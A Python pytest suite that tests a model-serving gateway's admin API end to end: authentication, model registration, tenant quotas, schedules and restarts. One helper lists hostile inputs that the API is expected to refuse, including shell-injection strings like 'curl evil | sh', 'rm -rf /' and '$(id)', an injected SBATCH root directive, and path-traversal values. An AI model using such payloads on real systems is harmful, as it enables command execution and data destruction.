"""The admin API end to end: a real uvicorn server, a real Redis, HTTP from outside.

The gateway (which mounts the admin API at /admin in production) is built elsewhere, so these tests
mount `build_admin_app` at /admin in a tiny Starlette app of their own.
"""

from __future__ import annotations

import asyncio
import json
import threading
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
import redis.asyncio as aioredis
import uvicorn
from starlette.applications import Starlette
from starlette.routing import Mount
from starlette.types import ASGIApp, Receive, Scope, Send

from queue_gateway.admin_routes import build_admin_app, openapi_document
from slurmless.localredis import LocalRedis
from slurmless.ports import free_port
from slurmless.settings import PartitionLimits, RedisSettings, RegistrySettings, Settings
from warmpool.keys import Keys
from warmpool.phase import ModelPhase, Phase, PhaseBoard
from warmpool.redisio import awaited

ADMIN_TOKEN = "bootstrap-admin-token-0123456789"
LLAMA_8B: dict[str, Any] = {
    "hidden_size": 4096,
    "intermediate_size": 14336,
    "num_attention_heads": 32,
    "num_hidden_layers": 32,
    "num_key_value_heads": 8,
    "vocab_size": 128256,
    "max_position_embeddings": 131072,
    "torch_dtype": "bfloat16",
}
LLAMA_70B = LLAMA_8B | {
    "hidden_size": 8192,
    "intermediate_size": 28672,
    "num_attention_heads": 64,
    "num_hidden_layers": 80,
}
LLAMA_405B = LLAMA_8B | {
    "hidden_size": 16384,
    "intermediate_size": 53248,
    "num_attention_heads": 128,
    "num_hidden_layers": 126,
}
LECTURES_ICS = """BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//test//lectures//EN
BEGIN:VEVENT
UID:ml-lecture@example.org
DTSTART;TZID=Europe/Berlin:20250414T101500
DTEND;TZID=Europe/Berlin:20250414T114500
RRULE:FREQ=WEEKLY;COUNT=14
SUMMARY:Machine Learning
END:VEVENT
END:VCALENDAR
"""


class Clock:
    """A clock the tests move by hand."""

    def __init__(self, now_s: float = 1_750_000_000.0) -> None:
        self.now_s = now_s

    def __call__(self) -> float:
        return self.now_s


class RequestCounter:
    """Counts requests per path, so a test can wait for a client to have looked (no sleeps)."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app
        self.counts: dict[str, int] = {}
        self.changed = threading.Condition()

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        await self.app(scope, receive, send)
        if scope["type"] == "http":
            with self.changed:
                self.counts[scope["path"]] = self.counts.get(scope["path"], 0) + 1
                self.changed.notify_all()

    def wait_beyond(self, path: str, count: int, timeout_s: float = 30.0) -> int:
        with self.changed:
            ok = self.changed.wait_for(lambda: self.counts.get(path, 0) > count, timeout=timeout_s)
        assert ok, f"no request to {path} within {timeout_s}s"
        return self.counts[path]


class AdminServer:
    """build_admin_app mounted at /admin, served by uvicorn in a thread on a free port."""

    def __init__(self, settings: Settings, clock: Clock) -> None:
        self.settings = settings
        self.clock = clock
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        redis: aioredis.Redis = aioredis.Redis.from_url(settings.redis.url, socket_timeout=5)

        @asynccontextmanager
        async def lifespan(app: Starlette) -> AsyncIterator[None]:
            try:
                yield
            finally:
                await redis.aclose()

        inner = Starlette(
            routes=[Mount("/admin", app=build_admin_app(redis, settings, clock=clock))], lifespan=lifespan
        )
        self.counter = RequestCounter(inner)
        config = uvicorn.Config(self.counter, host="127.0.0.1", port=self.port, log_level="warning", lifespan="on")
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(target=self.server.run, name="admin-api", daemon=True)

    def start(self, timeout_s: float = 20.0) -> None:
        self.thread.start()
        deadline = time.monotonic() + timeout_s
        while not self.server.started:
            if not self.thread.is_alive() or time.monotonic() > deadline:
                raise RuntimeError("the admin API server did not start")
            time.sleep(0.02)

    def stop(self, timeout_s: float = 20.0) -> None:
        self.server.should_exit = True
        self.thread.join(timeout_s)


def make_model_roots(base: Path) -> Path:
    """A model root holding two base models, an adapter, and traps outside it."""
    root = base / "models"
    for name, config in (("llama-8b", LLAMA_8B), ("llama-70b", LLAMA_70B), ("llama-405b", LLAMA_405B)):
        (root / name).mkdir(parents=True)
        (root / name / "config.json").write_text(json.dumps(config))
    (root / "tutor").mkdir()
    (root / "tutor" / "adapter_config.json").write_text(json.dumps({"r": 16, "base_model_name_or_path": "llama"}))
    (root / "empty").mkdir()
    outside = base / "outside"
    outside.mkdir()
    (outside / "config.json").write_text(json.dumps(LLAMA_8B))
    (root / "escape").symlink_to(outside)
    return root


def make_settings(redis_url: str, root: Path) -> Settings:
    return Settings(
        redis=RedisSettings(url=redis_url),
        admin_token=ADMIN_TOKEN,
        model_roots=[root],
        registry=RegistrySettings(
            partitions={
                "gpu": PartitionLimits(gpu_mem_gb=80, gpus_per_node=4, max_nodes=1),
                "preempt": PartitionLimits(gpu_mem_gb=80, gpus_per_node=4, max_nodes=1),
            },
            default_limits=PartitionLimits(gpu_mem_gb=80, gpus_per_node=4, max_nodes=1),
            check_paths_locally=True,
        ),
    )


@pytest.fixture
async def api(admin_server: AdminServer, redis_client: aioredis.Redis) -> AsyncIterator[httpx.AsyncClient]:
    """An admin client on a clean Redis (redis_client flushes it)."""
    async with httpx.AsyncClient(
        base_url=admin_server.url + "/admin", headers={"Authorization": f"Bearer {ADMIN_TOKEN}"}, timeout=30
    ) as client:
        yield client


async def snapshot(redis: aioredis.Redis) -> dict[bytes, object]:
    """Every key and its value, to prove a refused request wrote nothing."""
    out: dict[bytes, object] = {}
    for key in sorted(await redis.keys("*")):
        kind = (await redis.type(key)).decode()
        if kind == "hash":
            out[key] = await awaited(redis.hgetall(key))
        elif kind == "string":
            out[key] = await redis.get(key)
        elif kind == "stream":
            out[key] = await redis.xrange(key)
        elif kind == "set":
            out[key] = await awaited(redis.smembers(key))
        elif kind == "zset":
            out[key] = await redis.zrange(key, 0, -1, withscores=True)
        else:
            out[key] = kind
    return out


def error_of(response: httpx.Response) -> str:
    body = response.json()
    assert set(body["error"]) == {"message", "type", "code", "param"}, body
    message = str(body["error"]["message"])
    assert message and "\n" not in message, message
    return message


async def make_tenant(api: httpx.AsyncClient, name: str, **quota: int) -> None:
    response = await api.post("/v1/tenants", json={"name": name, **quota})
    assert response.status_code == 201, response.text


async def make_key(api: httpx.AsyncClient, tenant: str, **rights: bool) -> tuple[str, str]:
    response = await api.post("/v1/keys", json={"tenant": tenant, **rights})
    assert response.status_code == 201, response.text
    return response.json()["key"], response.json()["record"]["key_id"]


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


# --- tests ---------------------------------------------------------------------------------------


async def test_openapi_document_is_served_and_self_consistent(api: httpx.AsyncClient) -> None:
    response = await api.get("/openapi.json", headers={"Authorization": ""})
    assert response.status_code == 200
    doc = response.json()
    assert doc == json.loads(json.dumps(openapi_document()))
    assert doc["openapi"].startswith("3.1")
    assert {"ModelSpec", "Resources", "Policy", "TenantSpec", "ScheduleCreate", "KeyCreate"} <= set(
        doc["components"]["schemas"]
    )
    refs = set()

    def walk(node: object) -> None:
        if isinstance(node, dict):
            if isinstance(node.get("$ref"), str):
                refs.add(node["$ref"].rsplit("/", 1)[-1])
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(doc)
    assert refs <= set(doc["components"]["schemas"]), refs - set(doc["components"]["schemas"])
    assert "/v1/models/{name}/warm" in doc["paths"]


async def test_authentication(api: httpx.AsyncClient, redis_client: aioredis.Redis) -> None:
    assert (await api.get("/v1/models", headers={"Authorization": ""})).status_code == 401
    wrong = await api.get("/v1/models", headers=bearer("sk-sl-nope-nope"))
    assert wrong.status_code == 401 and error_of(wrong) == "invalid or revoked token"
    await make_tenant(api, "physics")
    user_key, _ = await make_key(api, "physics")
    user = await api.get("/v1/models", headers=bearer(user_key))
    assert user.status_code == 403 and "may not use the admin API" in error_of(user)
    admin_key, admin_id = await make_key(api, "physics", admin=True)
    assert (await api.get("/v1/keys", headers=bearer(admin_key))).status_code == 200
    assert (await api.delete(f"/v1/keys/{admin_id}")).status_code == 200
    assert (await api.get("/v1/keys", headers=bearer(admin_key))).status_code == 401
    listed = (await api.get("/v1/keys")).json()["data"]
    dump = repr(await snapshot(redis_client))
    assert user_key not in dump and admin_key not in dump and "key" not in listed[0]


async def test_register_estimates_gpus_and_show_list(api: httpx.AsyncClient, model_root: Path) -> None:
    small = await api.post(
        "/v1/models",
        json={"name": "llama-8b", "source": f"{model_root}/llama-8b", "aliases": ["meta-llama/Llama-3.1-8B-Instruct"]},
    )
    assert small.status_code == 201, small.text
    assert small.json()["model"]["resources"]["gpus"] == 1
    assert "estimated ~8.0B parameters" in small.json()["notes"][0]
    big = await api.post(
        "/v1/models",
        json={"name": "llama-70b", "source": f"{model_root}/llama-70b", "resources": {"partitions": ["gpu"]}},
    )
    assert big.status_code == 201, big.text
    assert (big.json()["model"]["resources"]["gpus"], big.json()["model"]["resources"]["nodes"]) == (4, 1)
    explicit = await api.post(
        "/v1/models",
        json={
            "name": "tiny",
            "source": f"{model_root}/llama-70b",
            "resources": {"gpus": 2},
            "engine_args": {"max_model_len": "4096"},
        },
    )
    assert explicit.status_code == 201, explicit.text
    assert explicit.json()["model"]["resources"]["gpus"] == 2
    assert explicit.json()["model"]["engine_args"] == {"--max-model-len": 4096}
    listed = (await api.get("/v1/models")).json()["data"]
    assert [row["model"]["name"] for row in listed] == ["llama-70b", "llama-8b", "tiny"]
    assert {row["phase"]["phase"] for row in listed} == {"cold"}
    shown = (await api.get("/v1/models/llama-8b")).json()
    assert shown["model"]["aliases"] == ["meta-llama/Llama-3.1-8B-Instruct"]
    assert shown["status"]["phase"] == "cold" and shown["status"]["actual"] == 0
    missing = await api.get("/v1/models/nope")
    assert missing.status_code == 404 and error_of(missing) == "model 'nope' does not exist"
    duplicate = await api.post("/v1/models", json={"name": "llama-8b", "source": f"{model_root}/llama-8b"})
    assert duplicate.status_code == 409 and "registered already" in error_of(duplicate)
    clash = await api.post(
        "/v1/models",
        json={"name": "other", "source": f"{model_root}/llama-8b", "aliases": ["meta-llama/Llama-3.1-8B-Instruct"]},
    )
    assert clash.status_code == 409 and "used by model 'llama-8b'" in error_of(clash)


def _hostile(root: Path) -> list[tuple[dict[str, Any], int, str]]:
    base: dict[str, Any] = {"name": "victim", "source": f"{root}/llama-8b"}
    return [
        (base | {"name": "bad;rm -rf /"}, 400, "DNS label"),
        (base | {"name": "$(reboot)"}, 400, "DNS label"),
        (base | {"name": "Upper"}, 400, "DNS label"),
        (base | {"source": f"{root}/../outside"}, 400, "'..'"),
        (base | {"source": "/etc"}, 400, "outside the model roots"),
        (base | {"source": f"{root}/escape"}, 400, "symlink escape"),
        (base | {"source": f"{root}/empty"}, 400, "holds no config.json"),
        (base | {"source": f"{root}/missing"}, 400, "not a directory"),
        (base | {"source": f"{root}/llama-8b;id"}, 400, "characters"),
        (base | {"source": "meta-llama/Llama-3.1-8B"}, 400, "hub ids are not allowed"),
        (base | {"engine_args": {"trust-remote-code": True}}, 400, "not in the allow-list"),
        (base | {"engine_args": {"--port": 1}}, 400, "set by slurmless itself"),
        (base | {"engine_args": {"dtype": "auto; curl evil | sh"}}, 400, "expected one of"),
        (base | {"engine_args": {"dtype": "auto\n#SBATCH --uid=0"}}, 400, "expected one of"),
        (base | {"engine_args": {"max-model-len": "$(id)"}}, 400, "not a int"),
        (base | {"resources": {"gpus": 8, "partitions": ["gpu"]}}, 400, "exceed partition gpu's 4 GPUs"),
        (base | {"resources": {"partitions": ["gpu;id"]}}, 400, "invalid partition"),
        (base | {"resources": {"partitions": ["secret"]}}, 400, "unknown partition"),
        (base | {"resources": {"gpus": 1000}}, 400, "resources.gpus"),
        (base | {"resources": {"account": "x\ny"}}, 400, "invalid account"),
        (base | {"source": f"{root}/llama-405b"}, 400, "offers at most 4"),
        (base | {"aliases": ["a b"]}, 400, "aliases"),
        (base | {"served_name": "x/../y"}, 400, "served_name"),
        (base | {"policy": {"min_replicas": 2, "max_replicas": 1}}, 400, "min_replicas must not exceed"),
        (base | {"unexpected": 1}, 400, "Extra inputs are not permitted"),
        (base | {"visibility": {"public": False, "tenants": ["Bad Tenant"]}}, 400, "invalid tenant"),
        (base | {"owner_tenant": "nobody"}, 404, "tenant 'nobody' does not exist"),
        (base | {"kind": "lora", "base_model": "missing"}, 404, "base model 'missing' does not exist"),
    ]


async def test_hostile_registrations_refused_and_nothing_written(
    api: httpx.AsyncClient, redis_client: aioredis.Redis, model_root: Path
) -> None:
    ok = await api.post("/v1/models", json={"name": "llama-8b", "source": f"{model_root}/llama-8b"})
    assert ok.status_code == 201
    before = await snapshot(redis_client)
    for body, status, why in _hostile(model_root):
        response = await api.post("/v1/models", json=body)
        assert response.status_code == status, (body, response.text)
        assert why in error_of(response), (body, response.text)
        patch = {
            k: v for k, v in body.items() if k not in ("name", "kind", "base_model") and v != f"{model_root}/llama-8b"
        }
        if patch and status == 400:
            response = await api.patch("/v1/models/llama-8b", json=patch)
            assert response.status_code in (400, 404), (patch, response.text)
    not_json = await api.post("/v1/models", content=b"{nope", headers={"Content-Type": "application/json"})
    assert not_json.status_code == 400 and "not valid JSON" in error_of(not_json)
    assert await snapshot(redis_client) == before


async def test_update_merges_and_remove(api: httpx.AsyncClient, model_root: Path) -> None:
    await api.post(
        "/v1/models",
        json={
            "name": "llama-8b",
            "source": f"{model_root}/llama-8b",
            "engine_args": {"max-model-len": 8192, "enforce-eager": True},
        },
    )
    response = await api.patch(
        "/v1/models/llama-8b",
        json={
            "policy": {"max_replicas": 3},
            "resources": {"qos": ["normal"]},
            "engine_args": {"enforce-eager": None},
        },
    )
    assert response.status_code == 200, response.text
    spec = response.json()["model"]
    assert spec["policy"]["max_replicas"] == 3 and spec["policy"]["min_replicas"] == 0
    assert spec["resources"]["qos"] == ["normal"] and spec["resources"]["gpus"] == 1
    assert spec["engine_args"] == {"--max-model-len": 8192}
    renamed = await api.patch("/v1/models/llama-8b", json={"name": "other"})
    assert renamed.status_code == 400 and "cannot be renamed" in error_of(renamed)
    assert (await api.delete("/v1/models/llama-8b")).status_code == 200
    assert (await api.get("/v1/models/llama-8b")).status_code == 404
    assert (await api.delete("/v1/models/llama-8b")).status_code == 404


async def test_lora_adapter_on_base(api: httpx.AsyncClient, model_root: Path) -> None:
    await api.post("/v1/models", json={"name": "llama-8b", "source": f"{model_root}/llama-8b"})
    adapter = await api.post(
        "/v1/models",
        json={
            "name": "tutor",
            "source": f"{model_root}/tutor",
            "kind": "lora",
            "base_model": "llama-8b",
            "served_name": "llama-tutor",
        },
    )
    assert adapter.status_code == 201, adapter.text
    assert "served by instances of llama-8b" in adapter.json()["notes"][0]
    wrong_dir = await api.post(
        "/v1/models", json={"name": "t2", "source": f"{model_root}/llama-8b", "kind": "lora", "base_model": "llama-8b"}
    )
    assert wrong_dir.status_code == 400 and "adapter_config.json" in error_of(wrong_dir)
    on_adapter = await api.post(
        "/v1/models", json={"name": "t3", "source": f"{model_root}/tutor", "kind": "lora", "base_model": "tutor"}
    )
    assert on_adapter.status_code == 400 and "itself an adapter" in error_of(on_adapter)
    with_args = await api.post(
        "/v1/models",
        json={
            "name": "t4",
            "source": f"{model_root}/tutor",
            "kind": "lora",
            "base_model": "llama-8b",
            "engine_args": {"max-loras": 2},
        },
    )
    assert with_args.status_code == 400 and "set engine arguments on the base" in error_of(with_args)
    assert (await api.get("/v1/models/llama-8b")).json()["adapters"] == ["tutor"]
    blocked = await api.delete("/v1/models/llama-8b")
    assert blocked.status_code == 409 and "tutor" in error_of(blocked)
    warm = await api.post("/v1/models/tutor/warm", json={"duration_s": 60})
    assert warm.status_code == 202 and warm.json()["warm"]["model"] == "llama-8b"
    status = {row["model"]: row for row in (await api.get("/v1/status")).json()["data"]}
    assert status["tutor"]["instance_model"] == "llama-8b" and status["tutor"]["warm_until_s"] is not None
    assert (await api.delete("/v1/models/tutor")).status_code == 200
    assert (await api.delete("/v1/models/llama-8b")).status_code == 200


async def test_self_service_tenancy_and_quota(
    api: httpx.AsyncClient, redis_client: aioredis.Redis, model_root: Path
) -> None:
    await make_tenant(api, "physics", max_models=1)
    await make_tenant(api, "chem")
    physics, _ = await make_key(api, "physics", can_register=True)
    chem, _ = await make_key(api, "chem", can_register=True)
    await api.post("/v1/models", json={"name": "public-llama", "source": f"{model_root}/llama-8b"})

    mine = await api.post(
        "/v1/models",
        headers=bearer(physics),
        json={"name": "phys-llama", "source": f"{model_root}/llama-8b", "owner_tenant": "chem"},
    )
    assert mine.status_code == 201, mine.text
    spec = mine.json()["model"]
    assert spec["owner_tenant"] == "physics" and spec["visibility"] == {"public": False, "tenants": []}

    before = await snapshot(redis_client)
    over = await api.post(
        "/v1/models", headers=bearer(physics), json={"name": "phys-two", "source": f"{model_root}/llama-8b"}
    )
    assert over.status_code == 403 and "quota" in error_of(over) and "owns 1 model(s)" in error_of(over)
    public = await api.post(
        "/v1/models",
        headers=bearer(chem),
        json={"name": "chem-pub", "source": f"{model_root}/llama-8b", "visibility": {"public": True}},
    )
    assert public.status_code == 403 and "only an admin can make a model public" in error_of(public)
    assert await snapshot(redis_client) == before

    # Another tenant's private model does not exist for chem, whatever it tries.
    for method, path, body in (
        ("GET", "/v1/models/phys-llama", None),
        ("PATCH", "/v1/models/phys-llama", {"policy": {"max_replicas": 2}}),
        ("DELETE", "/v1/models/phys-llama", None),
        ("POST", "/v1/models/phys-llama/warm", {}),
        ("GET", "/v1/models/phys-llama/schedules", None),
        ("POST", "/v1/models/phys-llama/schedules", {"kind": "cron", "expression": "0 8 * * *", "duration_s": 60}),
    ):
        response = await api.request(method, path, json=body, headers=bearer(chem))
        assert response.status_code == 404, (method, path, response.text)
        assert error_of(response) == "model 'phys-llama' does not exist"
    adapter = await api.post(
        "/v1/models",
        headers=bearer(chem),
        json={"name": "chem-tutor", "source": f"{model_root}/tutor", "kind": "lora", "base_model": "phys-llama"},
    )
    assert adapter.status_code == 404 and "base model 'phys-llama' does not exist" in error_of(adapter)
    chem_sees = [r["model"]["name"] for r in (await api.get("/v1/models", headers=bearer(chem))).json()["data"]]
    assert chem_sees == ["public-llama"]
    chem_status = [r["model"] for r in (await api.get("/v1/status", headers=bearer(chem))).json()["data"]]
    assert chem_status == ["public-llama"]
    # Visible but not theirs: changing it is forbidden, and admin-only endpoints stay closed.
    assert (
        await api.patch("/v1/models/public-llama", json={"policy": {"max_replicas": 2}}, headers=bearer(chem))
    ).status_code == 403
    assert (await api.post("/v1/keys", json={"tenant": "chem", "admin": True}, headers=bearer(chem))).status_code == 403
    assert (await api.get("/v1/tenants", headers=bearer(chem))).status_code == 403
    assert (await api.get("/v1/events", headers=bearer(chem))).status_code == 403

    # The owner manages its own model; an admin raising the quota lets it register more.
    assert (
        await api.patch("/v1/models/phys-llama", json={"policy": {"max_replicas": 2}}, headers=bearer(physics))
    ).status_code == 200
    assert (await api.patch("/v1/tenants/physics", json={"max_models": 2})).status_code == 200
    assert (
        await api.post(
            "/v1/models", headers=bearer(physics), json={"name": "phys-two", "source": f"{model_root}/llama-8b"}
        )
    ).status_code == 201
    tenants = {t["name"]: t for t in (await api.get("/v1/tenants")).json()["data"]}
    assert tenants["physics"]["models"] == 2 and tenants["physics"]["max_models"] == 2
    assert (await api.delete("/v1/models/phys-two", headers=bearer(physics))).status_code == 200


async def test_concurrent_self_service_registrations_respect_quota(
    api: httpx.AsyncClient, redis_client: aioredis.Redis, model_root: Path
) -> None:
    await make_tenant(api, "physics", max_models=2)
    key, _ = await make_key(api, "physics", can_register=True)
    responses = await asyncio.gather(
        *(
            api.post("/v1/models", headers=bearer(key), json={"name": f"m{i}", "source": f"{model_root}/llama-8b"})
            for i in range(6)
        )
    )
    assert sorted(r.status_code for r in responses) == [201, 201, 403, 403, 403, 403]
    assert len(await awaited(redis_client.hgetall(Keys().models))) == 2


async def test_schedules(api: httpx.AsyncClient, model_root: Path, clock: Clock) -> None:
    await api.post(
        "/v1/models", json={"name": "llama-8b", "source": f"{model_root}/llama-8b", "policy": {"max_replicas": 2}}
    )
    cron = await api.post(
        "/v1/models/llama-8b/schedules",
        json={
            "kind": "cron",
            "expression": "0 8 * * 1-5",
            "duration_s": 3600,
            "timezone": "Europe/Berlin",
            "replicas": 2,
        },
    )
    assert cron.status_code == 201, cron.text
    clock.now_s += 1
    ics = await api.post(
        "/v1/models/llama-8b/schedules", json={"kind": "ics", "ics": LECTURES_ICS, "timezone": "Europe/Berlin"}
    )
    assert ics.status_code == 201, ics.text
    listed = (await api.get("/v1/models/llama-8b/schedules")).json()["data"]
    assert [s["kind"] for s in listed] == ["cron", "ics"] and "ics" not in listed[1]
    assert listed[1]["summary"] == "ics feed with 1 event(s)"
    assert len((await api.get("/v1/schedules")).json()["data"]) == 2
    for body, why in (
        ({"kind": "cron", "expression": "0 25 * * *", "duration_s": 60}, "invalid cron expression"),
        ({"kind": "cron", "expression": "0 8 * * *"}, "needs duration_s"),
        (
            {"kind": "cron", "expression": "0 8 * * *", "duration_s": 60, "timezone": "Nowhere/City"},
            "unknown time zone",
        ),
        ({"kind": "ics", "ics": "BEGIN:VCALENDAR\nnonsense"}, "no events"),
        ({"kind": "cron", "expression": "0 8 * * *", "duration_s": 60, "replicas": 3}, "exceed max_replicas"),
        ({"kind": "cron", "expression": "0 8 * * *", "duration_s": 60, "id": "mine"}, "Extra inputs"),
    ):
        response = await api.post("/v1/models/llama-8b/schedules", json=body)
        assert response.status_code == 400 and why in error_of(response), (body, response.text)
    assert (
        await api.post("/v1/models/nope/schedules", json={"kind": "cron", "expression": "0 8 * * *", "duration_s": 60})
    ).status_code == 404
    sid = cron.json()["schedule"]["id"]
    assert (await api.delete(f"/v1/models/llama-8b/schedules/{sid}")).status_code == 200
    assert (await api.delete(f"/v1/models/llama-8b/schedules/{sid}")).status_code == 404
    assert len((await api.get("/v1/schedules")).json()["data"]) == 1


async def test_tenants_and_keys(api: httpx.AsyncClient) -> None:
    await make_tenant(api, "physics", max_concurrent_requests=10)
    again = await api.post("/v1/tenants", json={"name": "physics"})
    assert again.status_code == 409 and "exists already" in error_of(again)
    bad = await api.post("/v1/tenants", json={"name": "phys ics"})
    assert bad.status_code == 400 and "invalid tenant" in error_of(bad)
    orphan = await api.post("/v1/keys", json={"tenant": "nobody"})
    assert orphan.status_code == 404 and "create it first" in error_of(orphan)
    cleared = await api.patch("/v1/tenants/physics", json={"max_concurrent_requests": None, "max_models": 3})
    assert cleared.json()["max_concurrent_requests"] is None and cleared.json()["max_models"] == 3
    assert (await api.patch("/v1/tenants/nobody", json={"max_models": 1})).status_code == 404
    negative = await api.patch("/v1/tenants/physics", json={"max_models": -1})
    assert negative.status_code == 400 and "max_models" in error_of(negative)
    key, key_id = await make_key(api, "physics", can_register=True)
    assert key.startswith(f"sk-sl-{key_id}-")
    records = (await api.get("/v1/keys", params={"tenant": "physics"})).json()["data"]
    assert [(r["key_id"], r["can_register"], r["revoked"]) for r in records] == [(key_id, True, False)]
    assert (await api.delete("/v1/keys/nokey")).status_code == 404


async def test_warm_records_request_and_wakes_launcher(
    api: httpx.AsyncClient, redis_client: aioredis.Redis, model_root: Path, clock: Clock
) -> None:
    keys = Keys()
    await api.post("/v1/models", json={"name": "llama-8b", "source": f"{model_root}/llama-8b"})
    pubsub = redis_client.pubsub()
    await pubsub.subscribe(keys.demand_channel)
    try:
        first = await pubsub.get_message(timeout=5)
        assert first is not None and first["type"] == "subscribe"
        response = await api.post("/v1/models/llama-8b/warm", json={"duration_s": 600})
        assert response.status_code == 202, response.text
        message = await pubsub.get_message(ignore_subscribe_messages=True, timeout=5)
        assert message is not None and message["data"] == b"llama-8b"
    finally:
        await pubsub.aclose()  # type: ignore[no-untyped-call]
    warm = json.loads(await redis_client.get(keys.warm("llama-8b")))
    assert warm["until_s"] == clock.now_s + 600 and warm["requested_by"] == "admin-token"
    assert 590 <= await redis_client.ttl(keys.warm("llama-8b")) <= 600
    too_many = await api.post("/v1/models/llama-8b/warm", json={"replicas": 2})
    assert too_many.status_code == 400 and "exceed max_replicas 1" in error_of(too_many)
    events = (await api.get("/v1/events", params={"model": "llama-8b"})).json()["data"]
    assert [e["kind"] for e in events] == ["model_registered", "warm_requested"]
    assert events[1]["detail"]["until_s"] == clock.now_s + 600


async def test_status_reads_launcher_state(
    api: httpx.AsyncClient, redis_client: aioredis.Redis, model_root: Path, clock: Clock
) -> None:
    keys = Keys()
    await api.post("/v1/models", json={"name": "llama-8b", "source": f"{model_root}/llama-8b"})
    await api.post("/v1/models", json={"name": "llama-70b", "source": f"{model_root}/llama-70b"})
    await PhaseBoard(redis_client).set(
        "llama-70b",
        ModelPhase(phase=Phase.PENDING, slurm_reason="Resources", est_start_s=clock.now_s + 120, coming_instances=1),
    )
    await PhaseBoard(redis_client).set("llama-8b", ModelPhase(phase=Phase.READY, ready_instances=1))
    await awaited(
        redis_client.hset(
            keys.desired,
            mapping={"llama-70b": json.dumps({"replicas": 1, "reasons": []}), "llama-8b": json.dumps({"replicas": 1})},
        )
    )
    await redis_client.zadd(keys.ready("llama-8b"), {"i1": 0})
    await redis_client.zadd(keys.queue("llama-70b"), {"t1": 1, "t2": 2})
    await awaited(redis_client.hset(keys.model_stats("llama-8b"), "last_cold_start_s", "142.5"))
    rows = {r["model"]: r for r in (await api.get("/v1/status")).json()["data"]}
    assert rows["llama-8b"] | {} == rows["llama-8b"]
    assert (rows["llama-8b"]["phase"], rows["llama-8b"]["desired"], rows["llama-8b"]["actual"]) == ("ready", 1, 1)
    assert rows["llama-8b"]["last_cold_start_s"] == 142.5
    big = rows["llama-70b"]
    assert (big["phase"], big["slurm_reason"], big["desired"], big["actual"], big["queue_depth"]) == (
        "pending",
        "Resources",
        1,
        0,
        2,
    )
    assert big["est_start_s"] == clock.now_s + 120


async def test_everything_survives_restarts(tmp_path: Path) -> None:
    """Models, schedules, tenants and keys live in Redis only: a new API process and a restarted
    Redis (AOF) see them all."""
    root = make_model_roots(tmp_path)
    with LocalRedis(appendonly=True) as server:
        settings = make_settings(server.url, root)
        first = AdminServer(settings, Clock())
        first.start()
        try:
            async with httpx.AsyncClient(base_url=first.url + "/admin", headers=bearer(ADMIN_TOKEN)) as api:
                await make_tenant(api, "physics", max_models=4)
                key, _ = await make_key(api, "physics", can_register=True)
                assert (
                    await api.post(
                        "/v1/models", json={"name": "llama-8b", "source": f"{root}/llama-8b"}, headers=bearer(key)
                    )
                ).status_code == 201
                assert (
                    await api.post(
                        "/v1/models/llama-8b/schedules",
                        json={"kind": "cron", "expression": "0 8 * * *", "duration_s": 60},
                    )
                ).status_code == 201
        finally:
            first.stop()
        server.restart()
        second = AdminServer(settings, Clock())
        second.start()
        try:
            async with httpx.AsyncClient(base_url=second.url + "/admin", headers=bearer(key)) as api:
                shown = await api.get("/v1/models/llama-8b")
                assert shown.status_code == 200, shown.text
                assert shown.json()["model"]["owner_tenant"] == "physics"
                assert len(shown.json()["schedules"]) == 1
                tenants = await api.get("/v1/tenants", headers=bearer(ADMIN_TOKEN))
                assert tenants.json()["data"][0]["max_models"] == 4
        finally:
            second.stop()
